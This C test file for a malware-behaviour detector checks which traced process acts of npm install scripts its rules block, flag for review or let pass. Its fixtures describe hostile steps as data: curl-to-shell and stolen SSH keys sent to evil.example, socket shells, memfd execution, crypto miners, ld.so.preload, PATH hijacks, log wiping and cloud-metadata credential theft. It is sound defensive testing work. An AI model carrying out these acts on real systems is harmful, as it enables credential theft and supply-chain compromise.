/* Every rule of behaviour over acts of processes: what trips it, and what comes near and does not. The rules
 * over single events are in test_behaviour.c. */
#include "behaviour/rules.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

int scene_begin_all(void **state); /* test_rules_scene.c, which says how a text of acts is written */
int scene_end_all(void **state);
enum sp_severity scene_play(const char *text, struct sp_verdict *verdict);

/* Cases of test_behaviour.c. */
static const char *const of_single_events[] = { "run/decoy-read",    "run/canary-sent", "run/persistence",
                                                "run/write-outside", "run/connection",  "run/name-lookup",
                                                "run/request",       "run/digest",      "run/limit" };

/* The rule says SEVERITY at worst; NONE: nothing, or a note. */
struct rule_case {
    const char *rule, *story;
    enum sp_severity severity;
    const char *acts;
};
#define NONE SP_SEVERITY_NONE
#define REVIEW SP_SEVERITY_REVIEW
#define BLOCK SP_SEVERITY_BLOCK
#define P "p package pkg:npm/x@1.0.0\n"
#define L "p load pkg:npm/x@1.0.0\n"
#define OUT "p outside 192.0.2.1 443 TLS to evil.example\n"
#define NM "/home/user/app/node_modules/"

/* clang-format off */
static const struct rule_case cases[] = {
    { "run/decoy-then-sent", "an SSH key is read, then something is sent", BLOCK, P "p decoy /home/user/.ssh/id_ed25519 ssh-key\n" OUT },
    { "run/decoy-then-sent", "a child sends what its maker read", BLOCK, P "p decoy /home/user/.ssh/id_ed25519 ssh-key\np fork q\nq exec /usr/bin/curl curl -d @- https://evil.example\nq outside 192.0.2.1 443 TLS to evil.example\n" },
    { "run/decoy-then-sent", "npm's settings are read, then an unknown host is called", REVIEW, P "p decoy /home/user/.npmrc npmrc\n" OUT },
    { "run/decoy-then-sent", "npm itself reads its settings and fetches", NONE, "m decoy /home/user/.npmrc npmrc\nm connect 192.0.2.9 443\n" },
    { "run/decoy-then-sent", "a secret is read and only loopback is called", NONE, P "p decoy /home/user/.ssh/id_ed25519 ssh-key\np outside 127.0.0.1 9229\n" },

    { "run/environment-dumped", "env, then a send", BLOCK, P "p fork q\nq exec /usr/bin/env env\n" OUT },
    { "run/environment-dumped", "another's environ is read, then a send", BLOCK, P "p read /proc/1/environ\n" OUT },
    { "run/environment-dumped", "to an allowed host", REVIEW, P "p fork q\nq exec /usr/bin/env env\np passed cdn.example.org 443\n" },
    { "run/environment-dumped", "env alone is a note", NONE, P "p fork q\nq exec /usr/bin/env env\n" },
    { "run/environment-dumped", "env starts node, which sends", NONE, P "p exec /usr/bin/env env node install.js\n" OUT },
    { "run/environment-dumped", "ps reads the environ of others", NONE, P "p exec /usr/bin/ps ps aux\np read /proc/7/environ\n" OUT },

    { "run/reconnaissance", "who, where and what, then a send", BLOCK, P "p fork q\nq exec /usr/bin/whoami whoami\nq exec /usr/bin/hostname hostname\nq exec /usr/bin/id id\nq exec /usr/sbin/ip ip a\n" OUT },
    { "run/reconnaissance", "seven questions without a send", REVIEW, P "p fork q\nq exec /usr/bin/whoami whoami\nq exec /usr/bin/hostname hostname\nq exec /usr/bin/id id\nq exec /usr/sbin/ip ip a\nq exec /usr/bin/ps ps\nq exec /usr/bin/netstat netstat\nq exec /usr/bin/cat cat /etc/passwd\n" },
    { "run/reconnaissance", "three questions, then a send", NONE, P "p fork q\nq exec /usr/bin/uname uname -a\nq exec /usr/bin/id id -u\nq exec /usr/bin/hostname hostname\n" OUT },
    { "run/reconnaissance", "four questions over a minute", NONE, P "p fork q\nq exec /usr/bin/whoami whoami\nwait 20\nq exec /usr/bin/hostname hostname\nwait 20\nq exec /usr/bin/id id\nwait 20\nq exec /usr/sbin/ip ip a\n" OUT },

    { "run/fetched-executed", "a download is executed", BLOCK, P "p exec /usr/bin/node node install.js\n" OUT "p create /tmp/agent\np fork q\nq exec /tmp/agent /tmp/agent\n" },
    { "run/fetched-executed", "it is renamed first", BLOCK, P "p exec /usr/bin/node node install.js\n" OUT "p create /tmp/a.part\np rename /tmp/a.part /tmp/a\np fork q\nq exec /tmp/a /tmp/a\n" },
    { "run/fetched-executed", "unpacked by tar, then executed", BLOCK, P "p exec /usr/bin/node node install.js\n" OUT "p create /tmp/a.tgz\np fork t\nt exec /usr/bin/tar tar xf /tmp/a.tgz\nt read /tmp/a.tgz\nt create /tmp/a\np fork q\nq exec /tmp/a /tmp/a\n" },
    { "run/fetched-executed", "the program runs before it is known where it came from", BLOCK, P "p exec /usr/bin/node node install.js\np connect 192.0.2.1 443\np create /tmp/a\np fork q\nq exec /tmp/a /tmp/a\n" OUT },
    { "run/fetched-executed", "a script is given to an interpreter", BLOCK, P "p exec /usr/bin/node node install.js\n" OUT "p create /tmp/a.py\np fork q\nq exec /usr/bin/python3 python3 /tmp/a.py\n" },
    { "run/fetched-executed", "from a host of --allow-host", REVIEW, P "p exec /usr/bin/node node install.js\np passed cdn.example.org 443\np create " NM "x/bin/tool\np fork q\nq exec " NM "x/bin/tool tool --version\n" },
    { "run/fetched-executed", "what came in the tarball is executed", NONE, "m create " NM "x/bin/tool\n" P OUT "p fork q\nq exec " NM "x/bin/tool tool\n" },
    { "run/fetched-executed", "a download that is not executed", NONE, P OUT "p create /tmp/a\np mode /tmp/a 755\n" },
    { "run/fetched-executed", "what a compiler wrote is executed", NONE, P "p fork c\nc exec /usr/bin/ld ld -o conftest\nc create " NM "x/conftest\np fork q\nq exec " NM "x/conftest ./conftest\n" },

    { "run/decoded-executed", "written, run, deleted", BLOCK, P "p exec /usr/bin/node node install.js\np create /tmp/.a\np fork q\nq exec /tmp/.a /tmp/.a\np unlink /tmp/.a\n" },
    { "run/decoded-executed", "written into a hidden directory and run", REVIEW, P "p exec /usr/bin/node node install.js\np create /home/user/.x/run\np fork q\nq exec /home/user/.x/run run\n" },
    { "run/decoded-executed", "written beside the package and run", NONE, P "p exec /usr/bin/node node install.js\np create " NM "x/gen.js\np fork q\nq exec /usr/bin/node node " NM "x/gen.js\n" },
    { "run/decoded-executed", "a temporary file that is only deleted", NONE, P "p exec /usr/bin/node node install.js\np create /tmp/probe\np unlink /tmp/probe\n" },

    { "run/piped-shell", "curl | sh that connects", BLOCK, P "p exec /bin/sh sh -c curl^https://evil.example/i|sh\np fork c\nc exec /usr/bin/curl curl https://evil.example/i\nc outside 192.0.2.1 443 TLS to evil.example\n" },
    { "run/piped-shell", "curl | sh in words alone", REVIEW, P "p exec /bin/sh sh -c curl^-s^https://x.example|bash\n" },
    { "run/piped-shell", "base64 -d | sh", REVIEW, P "p exec /bin/sh sh -c echo^aGk=|base64^-d|sh\n" },
    { "run/piped-shell", "eval of base64 in python's words", REVIEW, P "p exec /usr/bin/python3 python3 -c exec(base64.b64decode('aGk='))\n" },
    { "run/piped-shell", "a shell that is told -v reads on", REVIEW, P "p fork c\nc exec /usr/bin/curl curl https://x.example\np fork q\nq exec +pipe /bin/bash bash -v\n" },
    { "run/piped-shell", "a version behind -s is the script's", REVIEW, P "p fork c\nc exec /usr/bin/curl curl https://x.example\np fork q\nq exec +pipe /bin/bash bash -s --version\n" },
    { "run/piped-shell", "curl into a file, then another command", NONE, P "p exec /bin/sh sh -c curl^-o^a.txt^https://x.example;node^a.js\n" },
    { "run/piped-shell", "uname piped to sed", NONE, P "p exec /bin/sh sh -c uname^-m|sed^s/x86_64/x64/\n" },

    { "run/shell-socket", "sh with a socket as its input", BLOCK, P "p fork q\nq exec +socket /bin/sh sh -i\n" },
    { "run/shell-socket", "the project's own scripts too", BLOCK, "p project\np fork q\nq exec +socket /bin/sh sh -i\n" },
    { "run/shell-socket", "sh with a pipe as its input", NONE, P "p fork q\nq exec +pipe /bin/sh sh\n" },

    { "run/memory-executed", "a program in a memfd", BLOCK, P "p fork q\nq exec +memory /memfd:x kworker\n" },
    { "run/memory-executed", "a program whose file is gone", REVIEW, P "p fork q\nq exec +deleted /tmp/x x\n" },
    { "run/memory-executed", "code mapped from a memfd by a plain program", REVIEW, P "p exec " NM "x/bin/x x\np code memory-mapped /memfd:jit\n" },
    { "run/memory-executed", "node's own compiler", NONE, P "p exec /usr/bin/node node i.js\np code memory-mapped /memfd:v8\n" },
    { "run/memory-executed", "a memfd that holds no code", NONE, P "p exec /usr/bin/node node i.js\np code memfd wayland\n" },

    { "run/neighbour-rewritten", "another package's code", BLOCK, P "p write " NM "express/index.js\n" },
    { "run/neighbour-rewritten", "renamed over another's package.json", BLOCK, P "p create /tmp/p\np rename /tmp/p " NM "express/package.json\n" },
    { "run/neighbour-rewritten", "by nobody that is known", REVIEW, "p unknown\np write " NM "express/index.js\n" },
    { "run/neighbour-rewritten", "another's code is moved away", BLOCK, P "p rename " NM "express/index.js " NM "x/old.js\n" },
    { "run/neighbour-rewritten", "its own code is moved", NONE, P "p rename " NM "x/a.js " NM "x/b.js\n" },
    { "run/neighbour-rewritten", "a sibling of one scope", REVIEW, "p package pkg:npm/%40a/b@1.0.0\np write " NM "@a/c/index.js\n" },
    { "run/neighbour-rewritten", "its own code", NONE, P "p write " NM "x/lib/index.js\n" },
    { "run/neighbour-rewritten", "what it installed within itself", NONE, P "p create " NM "x/node_modules/y/index.js\n" },
    { "run/neighbour-rewritten", "the shared cache", NONE, P "p create " NM ".cache/x/a.js\n" },
    { "run/neighbour-rewritten", "npm itself", NONE, "m create " NM "express/index.js\n" },
    { "run/neighbour-rewritten", "patch-package, by the project", NONE, "p project\np write " NM "express/index.js\n" },

    { "run/manager-config", ".npmrc", BLOCK, P "p append /home/user/.npmrc\n" },
    { "run/manager-config", "pip.conf by rename", BLOCK, P "p create /tmp/c\np rename /tmp/c /home/user/.config/pip/pip.conf\n" },
    { "run/manager-config", "by the project's own script", REVIEW, "p project\np append /home/user/.npmrc\n" },
    { "run/manager-config", "npm itself", NONE, "m append /home/user/.npmrc\n" },
    { "run/manager-config", "a package's own copy within itself", NONE, P "p create " NM "x/test/.npmrc\n" },

    { "run/workflow", "a workflow", BLOCK, P "p create /home/user/app/.github/workflows/x.yml\n" },
    { "run/workflow", "a workflow that it reads", NONE, P "p read /home/user/app/.github/workflows/ci.yml\n" },
    { "run/workflow", "within its own directory", NONE, P "p create " NM "x/.github/workflows/ci.yml\n" },

    { "run/loader", "ld.so.preload", BLOCK, P "p create /etc/ld.so.preload\n" },
    { "run/loader", "LD_PRELOAD by env", REVIEW, P "p exec /usr/bin/env env LD_PRELOAD=/tmp/x.so ls\n" },
    { "run/loader", "ld.so.cache is read", NONE, P "p read /etc/ld.so.cache\n" },
    { "run/loader", "env sets something else", NONE, P "p exec /usr/bin/env env LANG=C ls\n" },

    { "run/path-hijack", "a git of its own", BLOCK, P "p create /home/user/.local/bin/git\n" },
    { "run/path-hijack", "npm replaced by a link", BLOCK, P "p symlink " NM ".bin/npm ../x/evil.js\n" },
    { "run/path-hijack", "a link among the project's programs by nobody that is known", REVIEW, "p unknown\np symlink " NM ".bin/tsc ../typescript/bin/tsc\n" },
    { "run/path-hijack", "a git in the home by nobody that is known", BLOCK, "p unknown\np create /home/user/bin/git\n" },
    { "run/path-hijack", "npm links a package's programs", NONE, "m symlink " NM ".bin/tsc ../typescript/bin/tsc\n" },
    { "run/path-hijack", "the package of that name", NONE, "p package pkg:npm/node@20.0.0\np link " NM "node/bin/node " NM ".bin/node\n" },
    { "run/path-hijack", "a bin within the package", NONE, P "p create " NM "x/bin/node\n" },

    { "run/browser", "an extension", BLOCK, P "p create /home/user/.config/google-chrome/Default/Extensions/a/m.json\n" },
    { "run/browser", "the browser that it brings", REVIEW, P "p exec " NM "x/chrome chrome --headless\np create /home/user/.config/chromium/Default/Preferences\n" },
    { "run/browser", "its own profile in /tmp", NONE, P "p create /tmp/profile/.config/chromium/Default/Preferences\n" },

    { "run/publishes", "npm publish", BLOCK, P "p fork q\nq exec /usr/bin/npm npm publish --access public\n" },
    { "run/publishes", "git push", BLOCK, P "p fork q\nq exec /usr/bin/git git -C /home/user/app push\n" },
    { "run/publishes", "twine, by python -m", BLOCK, P "p fork q\nq exec /usr/bin/python3 python3 -m twine upload dist/x\n" },
    { "run/publishes", "by the project's own script", REVIEW, "p project\np fork q\nq exec /usr/bin/git git push\n" },
    { "run/publishes", "npm config get", NONE, P "p fork q\nq exec /usr/bin/npm npm config get registry\n" },
    { "run/publishes", "git rev-parse", NONE, P "p fork q\nq exec /usr/bin/git git rev-parse HEAD\n" },

    { "run/miner", "xmrig", BLOCK, P "p fork q\nq exec /tmp/xmrig ./xmrig -B\n" },
    { "run/miner", "another name, a pool in the words", BLOCK, P "p fork q\nq exec /tmp/a a -o stratum+tcp://pool.example:3333\n" },
    { "run/miner", "what it says to its pool", BLOCK, P "p said 192.0.2.1 3333 {\"method\":\"mining.subscribe\"}\n" },
    { "run/miner", "a compiler that is given -o", NONE, P "p fork q\nq exec /usr/bin/gcc gcc -o coin coin.c\n" },

    { "run/host-socket", "Docker", BLOCK, P "p unix /var/run/docker.sock\n" },
    { "run/host-socket", "the SSH agent", BLOCK, P "p unix /tmp/ssh-abc/agent.12\n" },
    { "run/host-socket", "the message bus", REVIEW, P "p unix /run/user/1000/bus\n" },
    { "run/host-socket", "Docker's socket is only looked for", REVIEW, P "p look /var/run/docker.sock\n" },
    { "run/host-socket", "a container tool looks when it is loaded", NONE, L "p look /var/run/docker.sock\n" },
    { "run/host-socket", "the name service cache", NONE, P "p unix /var/run/nscd/socket\n" },

    { "run/other-process", "a write into another's memory", BLOCK, P "p code ptrace /proc/7/mem open\n" },
    { "run/other-process", "process_vm_writev", BLOCK, P "p code ptrace 7 process_vm_writev\n" },
    { "run/other-process", "TRACEME", REVIEW, P "p code ptrace 7 traceme\n" },
    { "run/other-process", "a file is mapped", NONE, P "p code mapped /usr/lib/libc.so.6\n" },

    { "run/renamed", "a thread of the kernel", BLOCK, P "p code renamed [kworker/0:1]\n" },
    { "run/renamed", "sshd by argv[0]", BLOCK, P "p fork q\nq exec /tmp/a /usr/sbin/sshd\n" },
    { "run/renamed", "node names its threads", NONE, P "p exec /usr/bin/node node i.js\np code renamed libuv-worker\n" },
    { "run/renamed", "test is called [", NONE, P "p fork q\nq exec /usr/bin/[ [ -f x ]\n" },

    { "run/log-erased", "the shell's history is truncated", BLOCK, P "p truncate /home/user/.bash_history\n" },
    { "run/log-erased", "a log is deleted", BLOCK, P "p unlink /var/log/auth.log\n" },
    { "run/log-erased", "history -c", BLOCK, P "p exec /bin/bash bash -c history^-c\n" },
    { "run/log-erased", "a log of the package within itself", NONE, P "p create " NM "x/build.log\np truncate " NM "x/build.log\n" },
    { "run/log-erased", "a log is read", NONE, P "p read /var/log/syslog\n" },

    { "run/self-deleted", "a script deletes itself", REVIEW, P "p exec /usr/bin/node node install.js\np unlink " NM "x/install.js\n" },
    { "run/self-deleted", "by rm, that it starts", REVIEW, P "p exec /usr/bin/node node install.js\np fork q\nq exec /usr/bin/rm rm install.js\nq unlink " NM "x/install.js\n" },
    { "run/self-deleted", "another file of the package", NONE, P "p exec /usr/bin/node node install.js\np unlink " NM "x/tmp.js\n" },

    { "run/metadata-service", "the machine's credentials", BLOCK, P "p outside 169.254.169.254 80 GET /latest/meta-data/iam\n" },
    { "run/metadata-service", "any other host", NONE, P OUT },
    { "run/secret-destroyed", "an SSH key is deleted", BLOCK, P "p unlink /home/user/.ssh/id_ed25519\n" },
    { "run/secret-destroyed", "an SSH key is only read", NONE, P "p decoy /home/user/.ssh/id_ed25519 ssh-key\n" },
    { "run/data-sent", "a body to a bare address", BLOCK, P "p outside 192.0.2.1 80 POST /x HTTP/1.1, Host y\n" },
    { "run/data-sent", "a body to a name", REVIEW, P "p outside evil.example 80 PUT /x HTTP/1.1, Host evil.example\n" },
    { "run/data-sent", "a download from a bare address", NONE, P "p outside 192.0.2.1 80 GET /x HTTP/1.1, Host y\n" },
    { "run/listen", "it listens", BLOCK, P "p listen 0.0.0.0 4444\n" },
    { "run/listen", "a port for others to find", BLOCK, P "p bind tcp 0.0.0.0 4444\n" },
    { "run/listen", "on loopback alone", REVIEW, P "p listen 127.0.0.1 4444\n" },
    { "run/listen", "a datagram socket with a port of the kernel's choice", NONE, P "p bind udp 0.0.0.0 0\n" },
    { "run/listen", "npm itself", NONE, "m listen 127.0.0.1 4873\n" },

    { "run/raw-socket", "packets", REVIEW, P "p socket packet\n" },
    { "run/raw-socket", "netlink, as getifaddrs asks for", NONE, P "p socket netlink\n" },

    { "run/foreign-call", "a 32-bit call", REVIEW, P "p code foreign i386\n" },
    { "run/foreign-call", "io_uring by something else than node", REVIEW, P "p exec " NM "x/bin/x x\np code foreign io_uring_setup\n" },
    { "run/foreign-call", "node tries io_uring", NONE, P "p exec /usr/bin/node node i.js\np code foreign io_uring_setup\n" },

    { "run/sandbox-check", "a look, then the end", REVIEW, P "p look /.dockerenv\np exit\n" },
    { "run/sandbox-check", "two weaker signs", REVIEW, P "p read /proc/self/status\np read /proc/1/comm\np exit\n" },
    { "run/sandbox-check", "a program of its own that is called lscpu", REVIEW, P "p fork q\nq exec " NM "x/lscpu lscpu\nq look /.dockerenv\nq exit\n" },
    { "run/sandbox-check", "systemd-detect-virt, asked by a script that then ends", REVIEW, P "p fork q\nq exec /usr/bin/systemd-detect-virt systemd-detect-virt\nq exit\np exit\n" },
    { "run/sandbox-check", "a look, then work", NONE, P "p look /.dockerenv\np create " NM "x/out.js\np exit\n" },
    { "run/sandbox-check", "a look long before the end", NONE, P "p look /.dockerenv\nwait 5\np exit\n" },
    { "run/sandbox-check", "its own status alone", NONE, P "p read /proc/self/status\np exit\n" },

    { "run/long-sleep", "two minutes", REVIEW, P "p slept 120000 1\n" },
    { "run/long-sleep", "many short waits", NONE, P "p slept 120000 10000\n" },
    { "run/long-sleep", "half a minute", NONE, P "p slept 30000 1\n" },

    { "run/fork-storm", "600 at once", REVIEW, P "p forks 600\n" },
    { "run/fork-storm", "a configure script", NONE, P "p forks-ended 2000\n" },
    { "run/fork-storm", "as many cores as a machine has", NONE, P "p forks 256\n" },

    { "run/clipboard", "xclip", REVIEW, P "p fork q\nq exec /usr/bin/xclip xclip -o\n" },
    { "run/clipboard", "a tool that is only looked for", NONE, P "p fork q\nq exec /usr/bin/which which xclip\n" },

    { "run/staged", "the home", REVIEW, P "p fork q\nq exec /usr/bin/tar tar czf /tmp/a.tgz /home/user\n" },
    { "run/staged", "the home, by zip", REVIEW, P "p fork q\nq exec /usr/bin/zip zip -r /tmp/a.zip /home/user/.config\n" },
    { "run/staged", "its own files", NONE, P "p fork q\nq exec /usr/bin/tar tar czf /tmp/a.tgz lib\n" },
    { "run/staged", "something is unpacked", NONE, P "p fork q\nq exec /usr/bin/tar tar xzf /home/user/a.tgz\n" },
};
/* clang-format on */

static enum sp_severity
worst_of(const struct sp_verdict *verdict, const char *rule)
{
    enum sp_severity worst = NONE;
    for (size_t i = 0; i < verdict->count; i++)
        if (!strcmp(verdict->findings[i].rule, rule) && verdict->findings[i].severity > worst)
            worst = verdict->findings[i].severity;
    return worst;
}

static void
every_rule_tells_what_trips_it_from_what_comes_near(void **state SP_UNUSED)
{
    unsigned wrong = 0;
    for (size_t i = 0; i < SP_COUNT(cases); i++) {
        sp_autoverdict struct sp_verdict verdict = { 0 };
        scene_play(cases[i].acts, &verdict);
        enum sp_severity worst = worst_of(&verdict, cases[i].rule);
        if (worst == cases[i].severity)
            continue;
        wrong++;
        print_error("%s: %s: is %s, not %s\n", cases[i].rule, cases[i].story, sp_severity_name(worst),
                    sp_severity_name(cases[i].severity));
        for (size_t f = 0; f < verdict.count; f++)
            print_error("    %s %s: %s\n", verdict.findings[f].rule,
                        sp_severity_name(verdict.findings[f].severity), verdict.findings[f].message);
    }
    assert_int_equal(wrong, 0);
}

static void
every_other_rule_has_a_case_at_its_severity_and_one_that_only_comes_near(void **state SP_UNUSED)
{
    for (size_t r = 0; r < sp_rule_count; r++) {
        bool trips = false, near = false, elsewhere = false;
        for (size_t i = 0; i < SP_COUNT(of_single_events); i++)
            elsewhere |= !strcmp(of_single_events[i], sp_rules[r]->id);
        for (size_t i = 0; i < SP_COUNT(cases); i++) {
            if (strcmp(cases[i].rule, sp_rules[r]->id))
                continue;
            trips |= cases[i].severity == sp_rules[r]->severity;
            near |= cases[i].severity == NONE;
        }
        if (!elsewhere && !(trips && near))
            fail_msg("%s: has no case %s", sp_rules[r]->id,
                     trips ? "that only comes near" : "at its severity");
    }
}

static void
what_a_command_does_by_itself_is_for_review_at_most(void **state SP_UNUSED)
{
    sp_autoverdict struct sp_verdict verdict = { 0 };
    assert_int_equal(scene_play("command\nm append /home/user/.npmrc\n", &verdict), REVIEW);
    assert_int_equal(worst_of(&verdict, "run/manager-config"), REVIEW);
}

static void
a_finding_says_who_did_it_and_when(void **state SP_UNUSED)
{
    sp_autoverdict struct sp_verdict verdict = { 0 };
    scene_play(P "p create /home/user/app/.github/workflows/x.yml\n", &verdict);
    assert_int_equal(verdict.count, 1);
    const struct sp_finding *finding = &verdict.findings[0];
    assert_string_equal(finding->name, "x");
    assert_string_equal(finding->version, "1.0.0");
    assert_string_equal(finding->phase, "install");
    assert_string_equal(finding->subject, "/home/user/app/.github/workflows/x.yml");
    assert_non_null(strstr(finding->process, "sh -c node install.js (process "));
    assert_true(finding->time > 0 && finding->process_number > 0);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_rule_tells_what_trips_it_from_what_comes_near),
        cmocka_unit_test(every_other_rule_has_a_case_at_its_severity_and_one_that_only_comes_near),
        cmocka_unit_test(what_a_command_does_by_itself_is_for_review_at_most),
        cmocka_unit_test(a_finding_says_who_did_it_and_when),
    };
    return cmocka_run_group_tests(tests, scene_begin_all, scene_end_all);
}
